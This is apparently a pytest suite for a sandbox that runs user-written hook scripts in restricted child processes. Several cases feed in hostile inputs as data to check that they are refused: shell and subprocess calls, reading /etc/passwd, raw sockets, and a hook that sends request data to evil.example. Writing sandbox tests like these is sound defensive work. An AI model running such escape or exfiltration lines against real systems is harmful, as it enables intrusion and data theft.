"""Hooks in real child processes: the contract of `context`, the limits, and what is said when it goes wrong."""

import asyncio
import contextlib
import os
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from textwrap import dedent
from typing import Any

import pytest

from actions import hooks
from actions.base import Answer
from actions.errors import OutcomeUnknown, Refused, RetryLater
from actions.hooks import Hook, HookLimits, performs
from actions.specs.model import Operation
from actions.transport import Request

ASKED = Request(
    "POST", "https://api.example/v1/orders?a=1", (("Content-Type", "application/json"),), b'{"n":1}'
)


class Backend:
    """What the hook's requests reach: it keeps them and answers."""

    def __init__(self, answer: Answer | Exception | None = None) -> None:
        self.heard: list[Request] = []
        self.answer = answer or Answer(status=200, headers=(("etag", "e1"),), body=b'{"ok":true}')

    async def __call__(self, request: Request) -> Answer:
        self.heard.append(request)
        if isinstance(self.answer, Exception):
            raise self.answer
        return self.answer


@contextlib.asynccontextmanager
async def hook(source: str, **limits: Any) -> AsyncIterator[Hook]:
    made = Hook("x.py", dedent(source), limits=HookLimits(**limits))
    try:
        yield made
    finally:
        await made.close()


async def perform(
    made: Hook,
    send: Callable[[Request], Awaitable[Answer]] | None = None,
    *,
    of: Request = ASKED,
    deadline: float = 20.0,
) -> Answer:
    return await made.execute("PlaceOrder", of, send or Backend(), correlation="c-1", deadline=deadline)


PASSING = """
    async def execute(context):
        return await context.send(context.request)
"""
LOOPING = """
    async def execute(context):
        if context.request.method != "GET":
            await context.send(context.request)
        while True:
            pass
"""


async def test_a_hook_is_given_the_request_and_returns_the_response() -> None:
    backend = Backend()
    async with hook("""
        async def execute(context):
            request = context.request
            data = request.json()
            data["n"] += 1
            request.method, request.url = "PUT", request.url + "&b=2"
            request.headers["x-operation"] = context.operation_id
            request.body = data
            response = await context.send(request)
            return {
                "status": 201,
                "headers": {"X-Etag": response.headers["ETag"], "X-Correlation": context.correlation_id},
                "body": {"sent": response.json(), "status": response.status},
            }
    """) as made:
        answer = await perform(made, backend)
    assert backend.heard == [
        Request(
            "PUT",
            "https://api.example/v1/orders?a=1&b=2",
            (("Content-Type", "application/json"), ("x-operation", "PlaceOrder")),
            b'{"n": 2}',
        )
    ]
    assert answer.status == 201
    assert answer.headers == (
        ("x-etag", "e1"),
        ("x-correlation", "c-1"),
        ("content-type", "application/json"),
    )
    assert answer.body == b'{"sent": {"ok": true}, "status": 200}'


async def test_a_response_may_be_passed_on_or_made() -> None:
    async with hook("""
        async def execute(context):
            if context.operation_id == "x":
                return None
            response = await context.send(context.Request("GET", "https://api.example/x"))
            response.headers.pop("ETag")
            return response if response.text else context.Response(204)
    """) as made:
        answer = await perform(
            made, Backend(Answer(status=200, headers=(("etag", "e"),), body=bytes(range(256))))
        )
        assert (answer.status, answer.headers, answer.body) == (200, (), bytes(range(256)))


async def test_a_hook_may_send_several_requests() -> None:
    backend = Backend()
    async with hook("""
        async def execute(context):
            for number in range(5):
                last = await context.send(context.Request("GET", f"https://api.example/{number}"))
            return last
    """) as made:
        await perform(made, backend)
    assert [one.url[-1] for one in backend.heard] == list("01234")


async def test_what_a_hook_prints_and_logs_goes_to_the_log(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("INFO", logger="actions.hooks")
    async with hook("""
        async def execute(context):
            context.log("kept", context.operation_id)
            print("printed\\nand more")
            for _ in range(1000):
                context.log("x" * 5000)
            return {}
    """) as made:
        await perform(made)
    lines = [one.message for one in caplog.records if one.name == "actions.hooks"]
    assert lines[:3] == [
        f"hook x.py, PlaceOrder: {text}" for text in ("kept PlaceOrder", "printed", "and more")
    ]
    assert len(lines) == 100
    assert len(lines[3]) < 1_100


async def test_one_child_serves_many_calls_and_waits_for_none() -> None:
    waiting = asyncio.Event()
    both = asyncio.Barrier(3)

    async def slow(request: Request) -> Answer:
        await both.wait()
        await waiting.wait()
        return Answer(status=200, body=request.body)

    async with hook("""
        import os
        async def execute(context):
            response = await context.send(context.request)
            return {"body": f"{os.getpid()} {response.text}"}
    """) as made:
        calls = [
            asyncio.create_task(perform(made, slow, of=Request("POST", "https://api.example/x", (), text)))
            for text in (b"a", b"b")
        ]
        await both.wait()
        waiting.set()
        first, second = [(await call).body.split() for call in calls]
        third = (await perform(made, slow_none)).body.split()
    assert {first[1], second[1]} == {b"a", b"b"}
    assert first[0] == second[0] == third[0]


async def slow_none(request: Request) -> Answer:
    return Answer(status=200, body=b"c")


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("x = ", "cannot be loaded: line 1: invalid syntax"),
        ("raise ValueError('no')", "cannot be loaded: line 1: ValueError: no"),
        ("def execute(context): pass", "cannot be loaded: it has no `async def execute(context)`"),
        ("import os; os._exit(3)", "cannot be loaded: its process ended with 3"),
        ("raise SystemExit", "cannot be loaded: line 1: SystemExit"),
        ("x = bytearray(1 << 40)", "cannot be loaded: it needs more memory than it may have"),
        ("import socket; socket.socket()", "a hook may not do this (socket.__new__): use context.send"),
        ("import os; os.system('id')", "a hook may not do this (os.system)"),
        ("import os; os.fork()", "a hook may not do this (os.fork)"),
        ("import subprocess; subprocess.run(['id'])", "a hook may not do this (subprocess.Popen)"),
        ("import os; os.kill(1, 0)", "a hook may not do this (os.kill)"),
        ("import ctypes", "a hook may not do this (ctypes."),
        ("open('/etc/passwd')", "a hook sees no files"),
        ("open('/dev/null', 'w')", "a hook sees no files"),
        ("import os; os.open('/tmp/x', os.O_CREAT | os.O_RDWR)", "a hook sees no files"),
        ("import os; os.listdir('/')", "a hook sees no files"),
        ("import pathlib; pathlib.Path('x').read_text()", "a hook sees no files"),
        ("import msgspec", "ModuleNotFoundError"),
    ],
)
async def test_a_hook_that_cannot_be_loaded_says_why(source: str, said: str) -> None:
    async with hook(source) as made:
        (found,) = await made.check()
        assert (found.severity, found.code, found.file) == ("error", "hook", "x.py")
        assert said in found.message
        with pytest.raises(Refused, match=r"the hook x\.py cannot be loaded"):
            await perform(made)


async def test_the_child_has_nothing_of_ours(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOP_TOKEN", "s3cret")
    read, write = os.pipe()
    os.set_inheritable(write, True)
    try:
        async with hook("""
            import datetime, decimal, hashlib, hmac, json, os, random, re, urllib.parse, uuid, zoneinfo

            def open_ones():
                found = []
                for number in range(64):
                    try:
                        os.fstat(number)
                    except OSError:
                        continue
                    found.append(number)
                return found

            async def execute(context):
                zone = zoneinfo.ZoneInfo("Europe/Berlin") if context is None else "no zone"
                return {"body": {"environment": dict(os.environ), "folder": os.getcwd(), "open": open_ones()}}
        """) as made:
            answer = await perform(made)
    finally:
        os.close(read)
        os.close(write)
    told = answer.body.decode()
    assert "s3cret" not in told
    assert '"folder": "/"' in told
    assert '"open": [0, 1, 2, 3, 4, 5]' in told  # nothing, nothing, nothing, its two pipes, /dev/null


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("raise KeyError('x')", "line 2: KeyError: 'x'"),
        ("return 5", "what it returned is no response: it is int"),
        ("return {'stauts': 5}", "what it returned is no response: there is no stauts in a response"),
        ("return {'status': 99}", "what it returned is no response: its status is 99"),
        ("return {'status': True}", "what it returned is no response: its status is True"),
        ("return {'body': object()}", "what it returned is no response"),
        ("await context.send('x')", "what it sends is no request"),
        ("import asyncio; await asyncio.sleep(1)", "no running event loop"),
        ("import os; os._exit(0)", "its process ended with 0"),
        ("x = bytearray(1 << 40)", "it needs more memory than it may have"),
        ("return {'headers': 5}", "what it returned is no response"),
    ],
)
async def test_what_a_hook_does_wrong_is_refused_or_unknown_once_it_has_sent(source: str, said: str) -> None:
    async with hook(f"async def execute(context):\n    {source}\n") as made:
        with pytest.raises(Refused) as refused:
            await perform(made)
        assert said in str(refused.value)
    sending = f"async def execute(context):\n    await context.send(context.request); {source}\n"
    async with hook(sending) as made:
        with pytest.raises(OutcomeUnknown, match="after it had sent a request"):
            await perform(made)
        reading = Request("GET", ASKED.url)
        with pytest.raises(Refused):
            await perform(made, of=reading)


async def test_a_hook_that_takes_too_long_is_ended_and_the_next_call_gets_another() -> None:
    async with hook(LOOPING, seconds=0.2) as made:
        with pytest.raises(Refused, match=r"the hook x\.py: it took longer than it may"):
            await perform(made, of=Request("GET", ASKED.url))
        with pytest.raises(OutcomeUnknown, match="it took longer than it may"):
            await perform(made)
    async with hook(
        "async def execute(c):\n    if c.request.method == 'POST':\n        while True: pass\n    return {}",
        seconds=0.2,
    ) as made:
        with pytest.raises(Refused):
            await perform(made)
        assert (await perform(made, of=Request("GET", ASKED.url))).status == 200


async def test_the_time_of_what_it_sends_is_not_its_own() -> None:
    async def slow(request: Request) -> Answer:
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(asyncio.Event().wait(), 0.4)
        return Answer(status=200)

    async with hook(PASSING, seconds=0.3) as made:
        await made.check()
        assert (await perform(made, slow)).status == 200


async def test_a_call_whose_child_another_call_ended_is_told_so() -> None:
    sent, go_on = asyncio.Event(), asyncio.Event()

    async def held(request: Request) -> Answer:
        sent.set()
        await go_on.wait()
        return Answer(status=200)

    source = """
        async def execute(context):
            if context.request.url.endswith("loop"):
                while True: pass
            return await context.send(context.request)
    """
    for method, error in (("GET", RetryLater), ("POST", OutcomeUnknown)):
        sent.clear()
        go_on.clear()
        async with hook(source, seconds=0.3) as made:
            request = Request(method, ASKED.url)
            waiting = asyncio.create_task(perform(made, held, of=request))
            await sent.wait()
            with pytest.raises(Refused):
                await perform(made, of=Request("GET", "https://api.example/loop"))
            go_on.set()
            with pytest.raises(error, match="another call of it ended its process"):
                await waiting


async def test_a_hook_sends_to_its_own_origin_only() -> None:
    backend = Backend()
    async with hook("""
        async def execute(context):
            return await context.send(context.Request("GET", "https://evil.example/?" + context.request.text))
    """) as made:
        with pytest.raises(
            Refused, match=r"may send to https://api\.example only, not to https://evil\.example/"
        ):
            await perform(made, backend)
    assert backend.heard == []


async def test_a_hook_does_not_send_for_ever() -> None:
    backend = Backend()
    async with hook("""
        async def execute(context):
            while True:
                await context.send(context.Request("GET", context.request.url))
    """) as made:
        with pytest.raises(Refused, match="sends more than 100 requests"):
            await perform(made, backend)
    assert len(backend.heard) == 100


@pytest.mark.parametrize("error", [RetryLater("no way"), Refused("bad"), OutcomeUnknown("cut")])
async def test_what_sending_raises_goes_through(error: Exception) -> None:
    async with hook(PASSING) as made:
        with pytest.raises(type(error), match=str(error)):
            await perform(made, Backend(error))


async def test_an_error_after_something_was_sent_is_unknown() -> None:
    class Failing(Backend):
        async def __call__(self, request: Request) -> Answer:
            if self.heard:
                raise RetryLater("gone")
            return await super().__call__(request)

    async with hook("""
        async def execute(context):
            await context.send(context.request)
            return await context.send(context.request)
    """) as made:
        with pytest.raises(OutcomeUnknown, match="gone"):
            await perform(made, Failing())


async def test_a_call_that_is_given_up_leaves_the_child_usable() -> None:
    sent = asyncio.Event()

    async def never(request: Request) -> Answer:
        sent.set()
        await asyncio.Event().wait()
        return Answer(status=200)

    async with hook(PASSING) as made:
        waiting = asyncio.create_task(perform(made, never))
        await sent.wait()
        waiting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await waiting
        assert (await perform(made)).status == 200


async def test_a_call_that_is_given_up_while_the_hook_works_ends_the_child(tmp_path: Path) -> None:
    async with hook(LOOPING) as made:
        await made.check()
        waiting = asyncio.create_task(perform(made, of=Request("GET", ASKED.url)))
        with pytest.raises(TimeoutError):
            await asyncio.wait_for(asyncio.shield(waiting), 0.2)
        waiting.cancel()
        with pytest.raises(asyncio.CancelledError):
            await waiting
        with pytest.raises(RetryLater, match="no time left"):
            await made.execute("x", Request("GET", ASKED.url), Backend(), correlation="", deadline=0.2)


async def test_a_call_that_gets_no_turn_in_time_may_be_made_later() -> None:
    async with hook(LOOPING, seconds=1.0) as made:
        await made.check()
        first = asyncio.create_task(perform(made, of=Request("GET", ASKED.url)))
        second = asyncio.create_task(perform(made, of=Request("GET", ASKED.url), deadline=0.2))
        with pytest.raises(RetryLater, match="other calls of it took all the time"):
            await second
        with pytest.raises(Refused):
            await first


async def test_starting_a_child_does_not_outlast_the_call() -> None:
    async with hook("while True:\n    pass") as made:
        loop = asyncio.get_running_loop()
        began = loop.time()
        with pytest.raises(RetryLater, match="no time left"):
            await perform(made, deadline=0.5)
        assert loop.time() - began < hooks.START / 2


async def test_a_hook_without_time_because_of_the_backend_is_not_to_blame() -> None:
    async def slow(request: Request) -> Answer:
        await asyncio.sleep(0.4)  # the backend's own pace, not a wait for something
        return Answer(status=200)

    async with hook("""
        async def execute(context):
            await context.send(context.Request("GET", context.request.url))
            while True:
                pass
    """) as made:
        await made.check()
        with pytest.raises(RetryLater, match="no time left"):
            await perform(made, slow, deadline=0.6)


async def test_a_call_under_way_when_the_hook_is_closed_may_be_made_later() -> None:
    async with hook(LOOPING) as made:
        await made.check()
        waiting = asyncio.create_task(perform(made, of=Request("GET", ASKED.url)))
        with pytest.raises(TimeoutError):
            await asyncio.wait_for(asyncio.shield(waiting), 0.2)
        await made.close()
        with pytest.raises(RetryLater, match="closed"):
            await waiting


async def test_a_child_that_starts_while_the_hook_is_closed_is_ended() -> None:
    made = Hook("x.py", "async def execute(context):\n    return {}")
    checking = asyncio.create_task(made.check())
    await asyncio.sleep(0)  # the child is being started
    await made.close()
    [finding] = await checking
    assert "closed" in finding.message
    assert made._child is None


async def test_a_call_that_is_given_up_before_its_turn_is_dropped_by_the_child() -> None:
    sent = asyncio.Event()

    async def one(request: Request) -> Answer:
        sent.set()
        raise RetryLater("not now")

    async with hook(PASSING) as made:
        with pytest.raises(RetryLater):
            await perform(made, one)
        assert made._child is not None
        assert made._child.dropped == [1]
        await perform(made)
        assert made._child.dropped == []


async def test_a_closed_hook_performs_nothing() -> None:
    async with hook(PASSING) as made:
        await perform(made)
        await made.close()
        await made.close()
        with pytest.raises(RetryLater, match="is closed"):
            await perform(made)


async def test_too_much_is_not_handed_over(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hooks, "MAX_FRAME", 4096)
    async with hook(
        "async def execute(c):\n    return {'body': 'x' * (9000 if not c.request.body else 1)}"
    ) as made:
        with pytest.raises(Refused, match="more than 4096 bytes"):
            await perform(made, of=Request("POST", ASKED.url, (), b"x" * 5000))
        with pytest.raises(Refused, match="answered with more than 4096 bytes"):
            await perform(made, of=Request("POST", ASKED.url))


async def test_a_child_that_cannot_be_started_is_tried_again_later(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hooks.sys, "executable", "/nowhere/python")
    async with hook(PASSING) as made:
        with pytest.raises(RetryLater, match="cannot be started"):
            await perform(made)


def test_a_hook_performs_what_needs_code_or_is_listed() -> None:
    scripted = Operation(id="a", method="GET", path="/", needs_code=True)
    plain = Operation(id="b", method="GET", path="/")
    assert [performs(one, ()) for one in (scripted, plain)] == [True, False]
    assert [performs(one, ("b",)) for one in (scripted, plain)] == [False, True]
